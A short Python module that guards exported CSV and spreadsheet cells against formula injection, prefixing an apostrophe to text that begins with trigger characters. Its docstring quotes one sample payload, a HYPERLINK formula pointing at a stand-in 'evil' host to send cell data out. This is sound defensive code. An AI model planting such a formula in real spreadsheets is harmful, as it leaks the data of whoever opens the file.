"""Cells of exported spreadsheets and CSV files made safe to open.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return)
is read by Excel and LibreOffice as a formula: a consignor's name such as
``=HYPERLINK("http://evil/?"&A1,"open")`` in a donor's spreadsheet could send the sheet's
data elsewhere. Such text gets a leading apostrophe, as OWASP advises; numbers and dates
are written as they are (a negative quantity stays a number)."""

from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` itself, or for text that a spreadsheet would run, the text behind a '."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value
